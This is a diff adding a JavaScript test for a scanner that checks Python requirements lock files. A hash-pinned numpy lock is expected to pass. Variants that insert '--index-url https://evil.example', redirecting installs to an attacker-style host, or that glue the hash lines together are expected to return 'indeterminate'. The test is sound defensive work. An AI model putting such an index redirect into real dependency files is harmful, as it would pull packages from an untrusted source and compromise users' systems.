@@ -157,4 +157,14 @@ describe("code that needs no pickle", () => {
   ])("an honest %s passes", async (path, content) => {
     expect(await scan(content, path)).toMatchObject({ verdict: "pass", findings: [] });
   });
+
+  it("is not seen in a lock that names a hash for every file of a package", async () => {
+    const hash = `--hash=sha256:${"0a".repeat(32)}`;
+    const lock = `numpy==2.4.6 ; python_version >= "3.11" \\\n${Array(200).fill(`    ${hash}`).join(" \\\n")}\n`;
+    expect(await scan(lock, "requirements.txt")).toMatchObject({ verdict: "pass" });
+    const foreign = lock.replace("numpy==2.4.6", "--index-url https://evil.example numpy");
+    expect(await scan(foreign, "requirements.txt")).toMatchObject({ verdict: "indeterminate" });
+    const glued = lock.replaceAll("    --hash", "x--hash");
+    expect(await scan(glued, "requirements.txt")).toMatchObject({ verdict: "indeterminate" });
+  });
 });
